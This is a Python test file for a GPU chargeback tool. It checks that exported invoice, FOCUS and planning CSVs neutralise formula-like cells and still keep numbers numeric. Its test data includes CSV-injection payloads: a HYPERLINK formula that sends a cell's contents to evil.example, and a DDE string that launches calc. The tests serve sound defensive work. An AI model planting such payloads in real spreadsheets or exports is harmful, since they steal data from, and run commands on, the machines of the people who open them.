"""Formula-like text in the invoice and FOCUS CSVs is written as text (a leading apostrophe);
numbers, negative ones included, stay numbers."""
import csv
import io
from decimal import Decimal

import pytest

from slicemeter.testkit.cb_rows import add_gpu, add_slice, add_tenants
from slicemeter.csv_cells import neutralise_csv_cell
from slicemeter.store import connect
from slicemeter.cli import main

HOSTILE_NS = '=HYPERLINK("http://evil.example/?x="&A1,"invoice")'


@pytest.mark.parametrize("cell", [
    "=1+1", HOSTILE_NS, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "+", "=",
    "-1e", "--5",
])
def test_formula_like_text_gets_a_leading_apostrophe(cell):
    assert neutralise_csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    "-12.50", "-0.0001", "+3", "-7", "-1e-05", "-.5", "12.5", "", "acme", "ml/train-0/main",
    '{"slicemeter/node":"=x"}', "a=b", "GPU-1234",
])
def test_numbers_and_ordinary_text_are_unchanged(cell):
    assert neutralise_csv_cell(cell) == cell


def _hostile_db(tmp_path):
    """A month with a pod, a namespace and a GPU model named like formulas."""
    db = tmp_path / "m.duckdb"
    con = connect(db)
    add_tenants(con)
    add_gpu(con, model="@NVIDIA(1)")
    add_slice(con, "=cmd()", 0.5, 0.1, namespace=HOSTILE_NS)
    con.close()
    return db


def test_exported_csvs_carry_no_formula_and_keep_numbers(tmp_path):
    db = _hostile_db(tmp_path)
    assert main(["export", "--db", str(db), "--month", "2026-11", "--out", str(tmp_path / "o"),
                 "--prices", str(_prices(tmp_path))]) == 0
    for name in ("invoice-2026-11.csv", "focus-2026-11.csv"):
        rows = list(csv.reader(io.StringIO((tmp_path / "o" / name).read_text())))
        cells = [c for r in rows[1:] for c in r]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], name
        assert not [c for c in cells if c.startswith("-") and not _is_number(c)], name
        assert any(c.startswith("'=HYPERLINK") for c in cells), name
    inv = list(csv.DictReader(io.StringIO((tmp_path / "o" / "invoice-2026-11.csv").read_text())))
    assert sum(Decimal(r["cost"]) for r in inv) == Decimal("1.00")   # the GPU-hour, all numeric
    assert {r["namespace"] for r in inv} == {"'" + HOSTILE_NS, "(idle)"}
    assert {r["gpu_model"] for r in inv} == {"'@NVIDIA(1)"}


def test_recommend_csvs_carry_no_formula(tmp_path):
    db = _hostile_db(tmp_path)
    out = tmp_path / "plan"
    assert main(["recommend", "--db", str(db), "--month", "2026-11", "--out", str(out),
                 "--prices", str(_prices(tmp_path))]) == 0
    cells = {name: [c for r in list(csv.reader(io.StringIO((out / name).read_text())))[1:] for c in r]
             for name in ("slices.csv", "placement.csv", "groups.csv", "summary.csv")}
    for name, found in cells.items():
        assert not [c for c in found if c.startswith(("=", "+", "@", "\t", "\r"))], name
        assert not [c for c in found if c.startswith("-") and not _is_number(c)], name
    assert "'" + HOSTILE_NS in cells["slices.csv"] and "'=cmd()" in cells["slices.csv"]
    assert "'@NVIDIA(1)" in cells["groups.csv"]


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
        return True
    except ArithmeticError:
        return False


def _prices(tmp_path):
    p = tmp_path / "prices.yaml"
    p.write_text('currency: USD\ngpu_hour:\n  "@NVIDIA(1)": "1.00"\n')
    return p


def _csv_writer_bytes(header, rows) -> bytes:
    """What csv.writer writes for the export's cells (Decimal as plain text, None empty)."""
    want = io.StringIO()
    w = csv.writer(want, lineterminator="\n")
    w.writerow(header)
    for r in rows:
        w.writerow([neutralise_csv_cell("" if v is None else format(v, "f") if isinstance(v, Decimal) else str(v))
                    for v in r])
    return want.getvalue().encode()


@pytest.mark.parametrize("header", [["a", "b", "c"], ["only"]])
def test_csv_files_have_the_bytes_csv_writer_gives(header):
    """The export's CSV cells are made once per distinct text, without a writer per cell:
    the file must still be byte for byte what csv.writer writes for the same cells."""
    from slicemeter.chargeback.exports import _csv_bytes
    texts = ["", "plain", "a,b", 'say "hi"', "line\nbreak", "cr\ronly", "cr\r\nlf", '",', " sp ", "=1+1",
             "-12.50", None, Decimal("1.50"), Decimal("-0.0001"), 7, "é,ü"]
    rows = [[texts[(i + j) % len(texts)] for j in range(len(header))] for i in range(2 * len(texts))]
    assert _csv_bytes(header, rows) == _csv_writer_bytes(header, rows)


def test_csv_columns_without_special_cells_are_written_as_csv_writer_writes_them():
    """A column of plain texts is its own cells; one formula-like or quoted text anywhere
    (first row, last row, after a NUL inside a text) still gets the writer's bytes."""
    from slicemeter.chargeback.exports import _csv_bytes
    plain = [f"pod-{i}" for i in range(6)] + [Decimal("1.50"), None, 7]
    columns = [plain, plain[:-1] + ["=1+1"], ["@sum"] + plain[1:], plain[:-1] + ["a\x00=b"],
               plain[:-1] + ["-12.50"], plain[:-1] + ["x,y"], plain[:-1] + ["\tcmd"]]
    rows = [list(r) for r in zip(*columns)]
    header = [f"c{i}" for i in range(len(columns))]
    assert _csv_bytes(header, rows) == _csv_writer_bytes(header, rows)
